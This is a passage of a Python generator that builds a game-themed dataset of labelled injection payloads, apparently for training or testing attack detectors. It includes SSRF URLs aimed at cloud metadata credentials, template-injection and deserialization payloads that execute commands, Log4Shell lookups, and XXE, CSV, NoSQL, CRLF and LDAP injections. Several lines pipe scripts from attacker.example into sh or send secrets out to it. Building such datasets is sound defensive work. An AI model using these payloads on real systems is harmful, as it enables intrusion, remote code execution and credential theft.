        ("mod-import-url-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("server-browser-add-localhost-rcon-port", "127.0.0.1:25575"),
        ("alert-sound-url-metadata+decimal-ip", "http://2852039166/latest/user-data"),
        ("overlay-image-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
        ("emote-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/hostname"),
        ("banner-url-metadata+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("thumbnail-url-loopback-admin+short-ip", "http://127.1:8080/admin/"),
        ("webhook-url-zero-address-panel", "http://0.0.0.0:9000/api/servers"),
        ("discord-webhook-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20leaderboard%3Atop%20hacked%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0A"),
        ("patch-rss-url-file-scheme", "file:///etc/passwd"),
        ("mod-mirror-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
        ("avatar-url-userinfo-confusion", "https://cdn.example-game.com@%s/latest/meta-data/" % md),
        ("video-link-open-redirect-to-metadata", "https://attacker.example/r?to=http://%s/latest/api/token" % md),
        ("speedrun-video-embed-dns-rebinding", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
        ("webhook-url-internal-consul-kv", "http://10.0.0.5:8500/v1/kv/?recurse"),
        ("avatar-url-kubernetes-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("mod-import-url-docker-api", "http://172.17.0.1:2375/containers/json"),
        ("profile-banner-azure-metadata-token", "http://%s/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" % md),
        ("clan-logo-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("overlay-widget-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("server-banner-unc-ntlm-capture", "\\\\203.0.113.9\\share\\banner.png"),
        ("server-listing-url-elasticsearch", "http://localhost:9200/_cat/indices?v"),
        ("twitch-alert-image-url-encoded-host+urlenc", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("emote-import-ipv6-loopback-actuator", "http://[::1]:8081/actuator/env"),
        ("skin-import-jar-scheme", "jar:http://attacker.example/x.jar!/skin.png"),
        ("oembed-url-dns-to-loopback", "http://loopback.attacker.example:8080/admin"),
        ("webhook-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cadmin%40example-clan.net%3E%0D%0ARCPT%20TO%3A%3Cleak%40attacker.example%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
        ("server-query-internal-minecraft-rcon", "10.0.0.12:25575"),
        ("steam-profile-url-fragment-confusion", "http://%s#@cdn.example-game.com/avatar.png" % md),
        ("patch-rss-url-backslash-confusion", "http://cdn.example-game.com\\@127.0.0.1:6379/"),
        ("avatar-url-gcp-legacy-ssh-keys", "http://%s/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json" % md),
        ("bot-fetch-url-ftp-internal-backups", "ftp://10.0.0.7/backups/"),
        ("workshop-import-netdoc-scheme", "netdoc:///etc/passwd"),
        ("avatar-url-digitalocean-user-data", "http://%s/metadata/v1/user-data" % md),
        ("overlay-widget-url-internal-grafana", "http://grafana.monitoring.svc.cluster.local:3000/api/admin/users"),
        ("server-list-import-metadata+mixed-ip", "http://0251.254.43518/latest/meta-data/"),
        ("avatar-url-redirect-to-file", "https://attacker.example/302?url=file:///proc/self/environ"),
        ("webhook-url-ipv4-in-ipv6-rcon", "http://[0:0:0:0:0:ffff:127.0.0.1]:25575/"),
        ("japanese-clan-site-url-metadata", "http://%s/latest/meta-data/iam/info?ギルド=1" % md),
        ("twitch-alert-webhook-url-redis-dict", "dict://10.0.0.9:6379/CONFIG%20GET%20requirepass"),
        ("plain-ssrf-metadata", "http://%s/" % md),
        ("plain-ssrf-localhost-admin", "http://localhost/admin"),
        ("plain-ssrf-file-win-ini", "file:///c:/windows/win.ini"),
        ("plain-ssrf-loopback-ssh-port", "http://127.0.0.1:22/"),
    ]
    ctxs = ["avatar-url", "emote-url", "overlay-image-url", "mod-import-url", "alert-sound-url"]
    targets = [("loopback-port", "http://127.0.0.1:%d/" , [25575, 27015, 6379, 5432, 8080, 9090]),
               ("metadata-path", "http://169.254.169.254/latest/meta-data/%s", ["ami-id", "local-ipv4", "iam/info", "public-keys/", "instance-id"]),
               ("rfc1918-admin", "http://10.0.%d.1/admin", list(range(1, 20)))]

    def gen():
        name, tpl, vals = pick(targets)
        return "%s-%s" % (pick(ctxs), name), tpl % pick(vals)
    return take("ssrf", lit, gen, 52)


# ====================================================================== code
def code():
    pickle_payload = b"cos\nsystem\n(S'curl http://attacker.example/pk|sh'\ntR."
    lit = [
        ("bot-welcome-template-jinja-cycler-popen", "Welcome {{ cycler.__init__.__globals__.os.popen('id').read() }} to the server!"),
        ("levelup-message-jinja-config-leak", "{{ config.items() }} leveled up!"),
        ("guild-motd-jinja-subclasses-enum", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("alert-template-jinja-attr-chain+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("overlay-text-jinja-lipsum-env", "{{ lipsum.__globals__['os'].popen('cat /app/.env').read() }}"),
        ("guild-page-twig-filter-system", "{{ ['id']|filter('system') }}"),
        ("guild-page-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
        ("mod-description-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("patch-notes-velocity-runtime-exec", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("server-name-thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__::.x"),
        ("guild-motd-erb-backticks", "<%= `id` %>"),
        ("guild-motd-erb-file-read", "<%= File.read('/app/config/master.key') %>"),
        ("bot-response-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("overlay-go-template-method-call", "{{ .Server.Exec \"cat /etc/passwd\" }}"),
        ("clan-page-smarty-php-function", "{system('id')}"),
        ("rp-post-mako-expression-import", "${__import__('os').popen('id').read()}"),
        ("guild-page-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
        ("chat-command-jinja-self-globals+string-concat", "{{ self['_'+'_init_'+'_']['_'+'_globals_'+'_']['_'+'_builtins_'+'_']['ev'+'al'](\"__import__('os').popen('id').read()\") }}"),
        ("java-panel-server-name-spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("mod-portal-field-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("leaderboard-label-jsf-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        ("server-script-console-groovy-execute", "println 'id'.execute().text"),
        ("mod-lua-script-os-execute", "os.execute(\"curl -s http://attacker.example/l.sh | sh\")"),
        ("mod-lua-script-io-popen", "local f = io.popen(\"cat /etc/passwd\")\nprint(f:read(\"*a\"))\nf:close()"),
        ("gmod-lua-http-post-rcon-password", "http.Post(\"http://attacker.example/c\", { pw = GetConVar(\"rcon_password\"):GetString() })"),
        ("lua-sandbox-getfenv-escape", "getfenv(0).os.execute('id')"),
        ("lua-sandbox-load-bytecode", "load(string.char(27,76,117,97,83,0,25,147,13,10,26,10,4,8,4,8,8))"),
        ("lua-sandbox-package-loadlib", "package.loadlib(\"/tmp/upl/evil.so\", \"luaopen_evil\")()"),
        ("mod-python-script-import-os-system", "__import__('os').system('curl http://attacker.example/py | sh')"),
        ("calc-bot-eval-subclasses-popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'],stdout=-1).communicate()"),
        ("mod-python-exec-b64decode+base64", "exec(__import__('base64').b64decode('" + b64("import os;os.system('id')") + "'))"),
        ("renpy-script-dollar-python-subprocess", "$ import subprocess; subprocess.run(['sh','-c','curl attacker.example/r|sh'])"),
        ("mod-js-require-child-process", "require('child_process').execSync('curl http://attacker.example/j|sh')"),
        ("dice-bot-vm-constructor-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
        ("mod-js-function-constructor-fs-read", "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
        ("minecraft-chat-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
        ("player-name-log4shell-rmi", "${jndi:rmi://203.0.113.9:1099/Obj}"),
        ("server-motd-log4shell-dns-env-exfil", "${jndi:dns://${env:USER}.exfil.attacker.example/x}"),
        ("sign-text-log4shell+lookup-nesting", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://attacker.example/s}"),
        ("book-title-log4shell-default-value+lookup-nesting", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.23/b}"),
        ("chat-log4shell-env-default+lookup-nesting", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldaps://attacker.example/c}"),
        ("bug-report-user-agent-log4shell-sys-prop", "Hollowfall/1.4 (${jndi:ldap://attacker.example/${sys:java.version}})"),
        ("mod-config-json-proto-admin", "{\"keybinds\": {\"zoom\": \"c\"}, \"__proto__\": {\"isAdmin\": true}}"),
        ("overlay-settings-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
        ("overlay-query-string-proto-child-process-gadget", "settings[__proto__][shell]=/proc/self/exe&settings[__proto__][argv0]=console.log(require('child_process').execSync('id').toString())//"),
        ("bot-config-proto-ejs-output-function", "{\"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('id');s\"}}"),
        ("save-upload-java-serialized-commons+base64", java_stream_head("org.apache.commons.collections.functors.InvokerTransformer")),
        ("guild-settings-cookie-php-unserialize", 'O:13:"GuildSettings":1:{' + php_s("template") + php_s("/var/www/html/sh.php") + "}"),
        ("save-file-python-pickle+base64", b64(pickle_payload)),
        ("mod-config-yaml-python-apply", "!!python/object/apply:os.system ['curl http://attacker.example/y | sh']"),
        ("mod-config-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
        ("save-json-dotnet-typenamehandling", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList, mscorlib\", \"$values\": [\"cmd.exe\", \"/c calc\"]}, \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}}"),
        ("profile-cookie-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
        ("mod-about-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE ModMetaData [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<ModMetaData><name>&x;</name></ModMetaData>"),
        ("mod-config-xml-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE c [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]>\n<ModConfig><Name>x</Name></ModConfig>"),
        ("savegame-xml-xinclude-shadow", "<Save xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Player><xi:include parse=\"text\" href=\"file:///etc/shadow\"/></Player></Save>"),
        ("achievements-xml-entity-expansion", "<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY l \"lol\"><!ENTITY l2 \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY l3 \"&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;\"><!ENTITY l4 \"&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;\"><!ENTITY l5 \"&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;\">]>\n<Achievements>&l5;</Achievements>"),
        ("avatar-svg-xxe-environ", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///proc/self/environ\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&k;</text></svg>"),
        ("leaderboard-csv-export-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Kestrel\")"),
        ("guild-roster-csv-dde-powershell", "=cmd|' /C powershell -nop -w hidden -c iwr attacker.example/x.ps1|iex'!A0"),
        ("dkp-export-plus-dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
        ("tournament-export-importxml-exfil", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:A20),\"//a\")"),
        ("speedrun-export-minus-webservice", "-2+3+WEBSERVICE(\"http://attacker.example/?\"&C2)"),
        ("forum-signature-php-tag-upload", "<?php system($_GET['c']); ?>"),
        ("guild-page-ssi-exec", "<!--#exec cmd=\"id\" -->"),
        ("cdn-cached-bio-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
        ("plain-ssti-jinja-builtins-import", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("plain-log4shell-ldap", "${jndi:ldap://203.0.113.66/x}"),
        ("plain-ssti-dollar-probe", "${7*7}"),
        ("plain-prototype-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
        ("plain-csv-formula-dde", "=1+1+cmd|' /C calc'!A0"),
        ("plain-xxe-hostname", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>"),
        ("plain-python-popen-eval", "__import__('os').popen('whoami').read()"),
    ]
    ctxs = ["bot-welcome-template", "levelup-message", "overlay-alert-text", "guild-motd"]
    engines = [("jinja-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}"),
               ("jinja-joiner-popen", "{{ joiner.__init__.__globals__.os.popen('%s').read() }}"),
               ("twig-filter-exec", "{{ ['%s']|filter('exec') }}"),
               ("freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}")]
    shell = ["id", "whoami", "uname -a", "cat /etc/hostname", "ls /app", "env"]

    def gen():
        n, tpl = pick(engines)
        return "%s-%s" % (pick(ctxs), n), pick(["", "gg ", "Welcome ", "⭐ "]) + tpl % pick(shell)
    return take("code", lit, gen, 76)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("login-json-password-ne-null", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
        ("player-search-regex-all", "{\"$regex\": \".*\"}"),
        ("leaderboard-filter-gt-empty", "{\"$gt\": \"\"}"),
        ("login-query-string-bracket-ne", "username=admin&password[$ne]=wrong"),
        ("guild-lookup-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
        ("player-search-where-string-breakout", "'; return this.password.startsWith('a'); var x='"),
        ("profile-filter-or-exists", "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$exists\": true}}]}"),
        ("login-password-regex-prefix-blind", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^hunter\"}}"),
        ("reset-token-nin-empty", "{\"token\": {\"$nin\": []}}"),
        ("bot-settings-update-operator-set-admin", "{\"$set\": {\"isAdmin\": true}}"),
        ("leaderboard-aggregation-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"player\", \"foreignField\": \"name\", \"as\": \"u\"}}]"),
        ("stats-where-function-timing-exfil", "{\"$where\": \"function(){ if (this.apiKey && this.apiKey[0]=='s') { sleep(3000) } return true; }\"}"),
        ("member-search-query-string-regex-options", "name[$regex]=^adm&name[$options]=i"),
        ("match-filter-expr-always-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
        ("match-filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
        ("couchdb-mango-selector-gt-null", "{\"selector\": {\"password\": {\"$gt\": null}}}"),
        ("login-form-bracket-ne+urlenc", "user=admin&pass%5B%24ne%5D=1"),
        ("guild-where-clause-or-true", "x' || '1'=='1"),
        ("plain-nosqli-ne", "{\"$ne\": 1}"),
        ("plain-nosqli-where-true", "{\"$where\": \"1==1\"}"),
        ("plain-nosqli-gt-query-string", "password[$gt]="),
    ]

    def gen():
        u = pick(["admin", "root", "Kestrel", "modteam"])
        pre = "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 4)))
        return "login-password-regex-blind-prefix", "{\"username\": \"%s\", \"password\": {\"$regex\": \"^%s\"}}" % (u, pre)
    return take("nosqli", lit, gen, 23)


# ====================================================================== crlf
def crlf():
    lit = [
        ("minecraft-chat-server-log-forgery", "gg\n[12:01:44] [Server thread/INFO]: Kestrel issued server command: /op Griefer123"),
        ("rcon-log-forgery-unban", "afk\r\nL 06/01/2024 - 21:44:09: \"Admin<2><STEAM_0:1:1><>\" triggered \"sm_unban\" on \"Griefer123\""),
        ("twitch-bot-irc-privmsg-injection", "hi chat\r\nPRIVMSG #pixelpanda :/ban PixelPanda_mod"),
        ("twitch-bot-irc-join-spam-injection", "!so x\r\nJOIN #otherchannel\r\nPRIVMSG #otherchannel :free skins at attacker.example"),
        ("guild-invite-mail-subject-bcc", "Join Iron Wolves!\r\nBcc: everyone@attacker.example"),
        ("guild-invite-mail-reply-to-content-type", "Raid tonight\nReply-To: officer@attacker.example\nContent-Type: text/html"),
        ("forum-redirect-param-set-cookie", "/forum/t/12\r\nSet-Cookie: session=attacker_fixed; Path=/"),
        ("login-redirect-response-splitting+urlenc", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
        ("player-name-proxy-header-injection", "Kestrel\r\nX-Admin: true"),
        ("replay-download-filename-disposition-split", "replay.dem\r\nContent-Type: text/html\r\n\r\n<h1>owned</h1>"),
        ("game-log-json-field-forgery", "gg\",\"level\":\"INFO\",\"event\":\"admin_granted\",\"target\":\"Kestrel"),
        ("anticheat-log-line-forgery", "clean\n2024-06-01 21:44:09 ANTICHEAT OK player=xX_Sn1p3r_Xx verdict=clean reviewer=Kira"),
        ("server-console-ansi-clear-screen", "gg\u001b[2J\u001b[H[Server] All players verified. Whitelist disabled."),
        ("discord-webhook-username-header-injection", "BotName\r\nAuthorization: Bot FAKE-TOKEN-0000"),
        ("leaderboard-memcached-key-command", "top10\r\ndelete session:admin\r\n"),
        ("player-stats-redis-key-command", "stats:Kestrel\r\nSET role:Kestrel admin\r\n"),
        ("report-mail-smtp-rcpt-injection", "mods@example-clan.net>\r\nRCPT TO:<leak@attacker.example>"),
        ("guild-roster-csv-row-injection", "Thorin\r\nOfficer,Saltybeard,5000 DKP,approved"),
        ("mod-ci-version-github-output-injection", "1.3.2\nsigning_skip=true"),
        ("chat-log-u2028-line-separator", "gg\u2028[INFO] Kira granted admin to tomato"),
        ("overlay-header-utf8-crlf+utf8-trick", "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
        ("speedrun-comment-log-nel", "nice run\u0085[VERIFY] run 88341 verified by Corvid"),
        ("japanese-guild-mail-subject-bcc", "ギルド招待\r\nBcc: leak@attacker.example"),
        ("server-log-viewer-ansi-osc8-link", "gg \u001b]8;;https://attacker.example/update\u0007[ADMIN] click to install the anticheat update\u001b]8;;\u0007"),
        ("plain-crlf-lf-log", "\n[ADMIN] password reset for admin"),
        ("plain-crlf-header+urlenc", "%0d%0aX-Injected:%20yes"),
        ("plain-crlf-set-cookie", "\r\nSet-Cookie: a=b"),
    ]
    forged = ["[INFO] %s was promoted to moderator", "[Server] %s joined with op", "[BAN] %s unbanned by console"]

    def gen():
        ctx = pick(["chat-log", "rcon-log", "kill-feed-log"])
        return ctx + "-line-forgery", "%s%s%s" % (pick(["gg", "lol", "brb", "wp"]), pick(["\n", "\r\n", "%0a", "%0d%0a"]), pick(forged) % pick(PLAYERS))
    return take("crlf", lit, gen, 29)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("forum-sso-user-lookup-wildcard-or", "*)(|(objectClass=*"),
        ("guild-directory-admin-group-injection", "Kestrel)(|(memberOf=cn=forum-admins,ou=groups,dc=example-clan,dc=net)"),
        ("forum-login-ldap-and-true", "admin)(&)"),
        ("member-search-password-attribute-wildcard", "*)(userPassword=*"),
        ("guild-rank-lookup-truncation+null-byte", "officer*))%00"),
        ("voice-server-auth-mail-blind", "Thorin)(mail=a*"),
        ("member-lookup-or+urlenc", q("*)(|(cn=*")),
        ("russian-member-search-description", "Иван*)(|(description=*"),
        ("steam-link-lookup-or-uid", "76561198000000000)(|(uid=admin"),
        ("achievements-xml-xpath-tautology", "Kestrel' or '1'='1"),
        ("savegame-xml-xpath-union-passwords", "x'] | //account/password | //player['"),
        ("leaderboard-xml-xpath-blind-substring", "x' or substring(//admin/password,1,1)='s' or 'a'='b"),
        ("mod-manifest-xml-xpath-count-keys", "' or count(//apiKey)>0 or '"),
        ("server-config-xml-xpath-root-name-length", "x' or string-length(name(/*[1]))=6 or 'a'='b"),
        ("clan-xml-xpath-double-quote-tautology", "\" or \"\"=\""),
        ("guild-officer-lookup-not-filter", "*)(!(cn=nobody)"),
        ("plain-ldap-and-true", "*)(&"),
        ("plain-xpath-or", "' or 1=1 or ''='"),
        ("plain-xpath-paren-tautology", "') or ('1'='1"),
    ]

    def gen():
        u = pick(["admin", "Kestrel", "Thorin", "modbot"])
        pre = "".join(pick("abcdefghk0123456789") for _ in range(RNG.randint(1, 3)))
        return "forum-sso-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, pre)
    return take("ldap-xpath", lit, gen, 22)


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("nosqli", nosqli),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha26-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d  (literals %d)" % ("total", len(rows), sum(LITERAL_COUNTS.values())))


if __name__ == "__main__":
    main()
